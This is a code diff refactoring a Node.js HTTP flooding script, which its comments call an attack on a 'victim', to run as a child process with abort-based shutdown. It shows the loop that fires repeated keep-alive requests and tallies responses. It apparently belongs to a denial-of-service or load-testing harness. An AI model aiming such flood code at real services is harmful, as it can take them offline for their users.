@@ -1,6 +1,6 @@
 import { Agent, request } from "node:http";
 import { setTimeout as delay } from "node:timers/promises";
-import { parentPort, workerData } from "node:worker_threads";
+import { once } from "node:events";
 
 /** What the attack sends, over and over. */
 export interface Flood {
@@ -13,7 +13,13 @@ export interface Flood {
 
 const PAUSE_AFTER_FAILURE_MS = 100;
 
-const { url, authorization, body, loops } = workerData as Flood;
+/** What it got: answers by their status, and the size of the largest in bytes. */
+export interface Flooded {
+  counts: Record<string, number>;
+  largest: number;
+}
+
+const [{ url, authorization, body, loops }] = (await once(process, "message")) as [Flood];
 const agent = new Agent({ keepAlive: true, maxSockets: loops });
 const headers = {
   authorization,
@@ -22,7 +28,7 @@ const headers = {
 };
 const counts: Record<string, number> = {};
 let largest = 0;
-let stopped = false;
+const stopping = new AbortController();
 
 /** Reads an answer and throws it away: parsing it would be work on the victim's cores. */
 function ask(): Promise<void> {
@@ -45,11 +51,11 @@ function ask(): Promise<void> {
 }
 
 async function loop(): Promise<void> {
-  while (!stopped) {
+  while (!stopping.signal.aborted) {
     try {
       await ask();
     } catch (error) {
-      if (stopped) return;
+      if (stopping.signal.aborted) return;
       const name = error instanceof Error && "code" in error ? String(error.code) : "error";
       counts[name] = (counts[name] ?? 0) + 1;
       await delay(PAUSE_AFTER_FAILURE_MS);
@@ -57,9 +63,10 @@ async function loop(): Promise<void> {
   }
 }
 
-parentPort!.once("message", () => {
-  stopped = true;
+process.once("message", () => {
+  stopping.abort();
   agent.destroy();
 });
 await Promise.all(Array.from({ length: loops }, loop));
-parentPort!.postMessage({ counts, largest });
+process.send?.({ counts, largest } satisfies Flooded);
+process.disconnect?.();
